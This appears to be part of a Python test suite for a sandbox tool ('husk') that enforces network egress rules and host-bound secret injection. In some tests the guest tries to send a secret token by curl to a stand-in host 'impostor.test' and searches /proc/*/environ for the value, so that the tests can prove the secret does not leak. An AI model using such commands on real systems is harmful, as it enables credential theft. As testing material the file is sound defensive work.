    assert_equal(seen["/one"]["headers"]["authorization"], f"Bearer {VALUE}")
    assert_equal(seen["/two"]["headers"]["x-key"], VALUE)
    assert_equal(seen["/three"]["headers"]["authorization"], f"Bearer {placeholder}", "to another host")
    assert_equal(seen["/four"]["body"], placeholder, "in a body")


@test
def test_secret_is_not_given_to_an_impostor():
    """A host whose certificate nobody vouches for does not get it, whatever the guest itself would put up with."""
    sandbox = box("--secret", f"TOKEN={VALUE}@impostor.test")
    sh(sandbox, "curl -ksS -m 10 -f -H \"X: $TOKEN\" https://impostor.test/ || true")
    assert not [r for r in internet.requests() if VALUE in json.dumps(r) and r.get("host") == "impostor.test"]
    log = husk("egress", sandbox, "--log", "--json").json()
    assert any(entry["verdict"] == "failed" and "certificate" in entry["reason"] for entry in log), log


@test
def test_secret_is_nowhere_else():
    sandbox = box("--secret", f"TOKEN={VALUE}@api.test")
    # Sent away, it comes back as it went: the guest must not be able to have it echoed by anybody but that host.
    sh(sandbox, f"{CURL} -H \"X: $TOKEN\" https://api.test/ -o /dev/null")
    [child] = fork(sandbox)
    sh(child, "curl -sS -m 10 -o /dev/null -H \"X: $TOKEN\" https://api.test/child")
    assert_equal([r["headers"]["x"] for r in internet.requests() if r.get("path") == "/child"][-1], VALUE)
    snapshot = adopt_snapshot(husk("snapshot", "create", child, "--json").json()["id"])
    assert_fails("create", "--from", snapshot, code=2, says=["TOKEN", "value", "--secret TOKEN@api.test"])
    copy = create("--from", snapshot, "--secret", f"TOKEN={VALUE}@api.test")
    assert_equal(sh(copy, "printenv TOKEN"), sh(sandbox, "printenv TOKEN"))
    husk("hibernate", child)
    for words in (("inspect", child, "--json"), ("egress", sandbox, "--json"), ("egress", sandbox, "--log"), ("events",), ("logs", sandbox)):
        assert VALUE not in husk(*words).text, words
    assert_equal(sh(copy, f"grep -rls '{VALUE[:9]}' /proc/[0-9]*/environ /etc /root /tmp /var 2>/dev/null || true"), "")
    holders = files_holding(VALUE)
    assert all(name.endswith("/secrets") for name in holders), holders
    assert all(os.stat(name).st_mode & 0o077 == 0 for name in holders), holders
    husk("rm", sandbox, child, copy)
    assert_equal(files_holding(VALUE), [], "after the end")


def files_holding(text):
    """Every file of the instance with these bytes in it, images of memory and the catalog included."""
    found = []
    for folder, _, names in os.walk(HOME):
        for name in names:
            path = os.path.join(folder, name)
            if not os.path.isfile(path) or os.path.islink(path):
                continue
            with open(path, "rb") as file:
                tail = b""
                while block := file.read(1 << 24):
                    if text.encode() in tail + block:
                        found.append(path)
                        break
                    tail = block[-64:]
    return found


# ---- templates ----


@test
def test_templates_carry_a_policy():
    with scratch() as place:
        definition = place / "base"  # of the same name, since what it is built from is in the cache under that
        shutil.copytree(TOP / "templates/base", definition)
        with open(definition / "template", "a", encoding="utf-8") as file:
            file.write("egress: allow\nallow: allowed.test *.wild.test\n")
        try:
            husk("template", "build", str(definition), timeout=300)
            plain, other = box("--ttl", "10m"), box("--egress", "off")
            assert_equal(husk("egress", plain, "--json").json()["allow"], ["allowed.test", "*.wild.test"])
            assert_in("allowed.test", sh(plain, f"{CURL} https://allowed.test/"))
            assert_equal(inspect(other)["egress"], "off")
            with open(definition / "template", "a", encoding="utf-8") as file:
                file.write("allow: not/a/rule\n")
            assert_fails("template", "build", str(definition), code=2, says=["base", "not/a/rule"])
        finally:
            husk("template", "build", "base", timeout=300)


# ---- bad input ----


@test
def test_bad_policies_are_refused():
    for words, says in (
        (("--allow", "exa mple.com"), ["exa mple.com"]),
        (("--allow", "*"), ["*"]),
        (("--allow", "*.*.com"), ["*.*.com"]),
        (("--allow", "foo.*.com"), ["foo.*.com"]),
        (("--allow", "10.0.0.0/33"), ["10.0.0.0/33"]),
        (("--allow", "10.0.0.999"), ["10.0.0.999"]),
        (("--allow", "example.com:0"), ["example.com:0"]),
        (("--allow", "example.com:99999"), ["99999"]),
        (("--allow", "http://example.com/"), ["http://example.com/"]),
        (("--allow", ""), ["allow"]),
        (("--allow", "-bad-.com"), ["-bad-.com"]),
        (("--egress", "closed"), ["--egress", "closed", "open"]),
        (("--egress", "off", "--allow", "example.com"), ["off"]),
        (("--secret", "TOKEN"), ["--secret", "NAME=VALUE@HOST"]),
        (("--secret", "TOKEN=x@*"), ["'*'"]),
        (("--secret", "1TOKEN=x@api.test"), ["secret", "name"]),
        (("--secret", "TOKEN=@api.test"), ["TOKEN"]),
        (("--secret", "TOKEN=x@10.0.0.1"), ["10.0.0.1"]),
        (("--secret", "NO_SUCH_VARIABLE@api.test"), ["NO_SUCH_VARIABLE"]),
        (("--secret", "A=x@api.test", "-e", "A=y"), ["A", "environment"]),
        (("--net-connections", "0", "--allow", "a.test"), ["--net-connections"]),
    ):
        assert_fails("create", *words, code=2, says=says)
    sandbox = box()
    before = husk("egress", sandbox, "--json").json()
    assert_fails("egress", sandbox, "--allow", "10.0.0.0/99", code=2, says="10.0.0.0/99")
    assert_fails("egress", sandbox, "--remove", "no.such.rule", code=3, says="no.such.rule")
    assert_fails("egress", "nobody", code=3, says="nobody")
    after = husk("egress", sandbox, "--json").json()
    assert_equal({**after, "traffic": 0}, {**before, "traffic": 0})


@test
def test_no_rules_no_sandbox():
    """When the wire cannot be set up the sandbox does not start."""
    result = husk("run", "--allow", "allowed.test", "--", "true", env={"HUSK_POOL": "0", "HUSK_NET": "203.0.113.0/24"}, code=125)
    for piece in ("HUSK_NET", "203.0.113.0/24"):
        assert_in(piece, result.error)
    # The library that loads the packet rules is not there, for this one command and what it starts.
    found = subprocess.run(["ldconfig", "-p"], check=True, capture_output=True, text=True).stdout
    library = next(line.rpartition(" => ")[2] for line in found.splitlines() if "libnftables.so.1 " in line)
    hidden = 'mount --bind /dev/null "$0" && exec "$@"'
    words = ["unshare", "--mount", "sh", "-c", hidden, library, HUSK, "run", "--allow", "allowed.test", "--", "true"]
    done = subprocess.run(words, env=environment({"HUSK_POOL": "0"}), capture_output=True, text=True, timeout=120, check=False)
    assert_equal(done.returncode, 125, done.stderr)
    assert_in("libnftables", done.stderr)


@test
def test_no_leash_no_sandbox():
    """A proxy that ends as soon as it is started: the sandbox does not start."""
    with scratch() as place:
        program = os.path.join(place, "husk")
        with open(program, "w", encoding="utf-8") as file:
            file.write(f'#!/bin/sh\n[ "$1" = leash ] && exit 1\nexec "{HUSK}" "$@"\n')
        os.chmod(program, 0o755)
        without = {"HUSK_POOL": "0", "HUSK_BIN": program, "HUSK_LIBDIR": os.path.dirname(HUSK)}
        assert_in("leash", husk("run", "--allow", "allowed.test", "--", "true", env=without, code=125, timeout=120).error)
        assert_equal(husk("run", "--", "echo", "no network", env=without).text, "no network\n")


# ---- the end ----


@test
def test_zz_nothing_is_left():
    husk("rm", "--all")
    husk("gc", "--all")
    assert_no_leaks()
    leashes = [pid for pid in os.listdir("/proc") if pid.isdigit() and b"leash" in cmdline(pid) and HOME.encode() in environ(pid)]
    assert_equal(leashes, [], "leash processes")
    assert_equal(kill_instance(), 0, "processes left")


def cmdline(pid):
    with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
        return file.read().split(b"\0")
    return []


def environ(pid):
    with contextlib.suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
        return file.read()
    return b""


if __name__ == "__main__":
    main("base", slow=("allowed_names_flow", "off_is_the_default", "escape_raw_addresses", "escape_raw_frames",
                       "escape_new_addresses", "changes_live", "forks_inherit", "kept_across_hibernation", "leash_killed",
                       "secret_is_swapped", "zz_nothing_is_left"))
